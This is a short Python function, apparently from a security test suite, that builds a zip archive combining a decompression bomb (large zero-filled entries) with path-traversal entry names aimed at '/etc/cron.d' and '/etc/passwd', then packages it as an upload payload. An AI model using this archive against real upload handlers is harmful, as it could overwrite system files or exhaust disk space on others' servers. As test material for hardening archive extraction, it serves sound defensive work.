"""A zip file of files that unpack to gigabytes, with names that lead elsewhere."""

import io
import zipfile


def upload(kit):
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name in ("../../../../etc/cron.d/x", "/etc/passwd", *(f"{number}.png" for number in range(4))):
            archive.writestr(zipfile.ZipInfo(name), bytes(64 * 2**20), zipfile.ZIP_DEFLATED)
    return kit.image({"payload": kit.tools.File(packed.getvalue())}).tar()
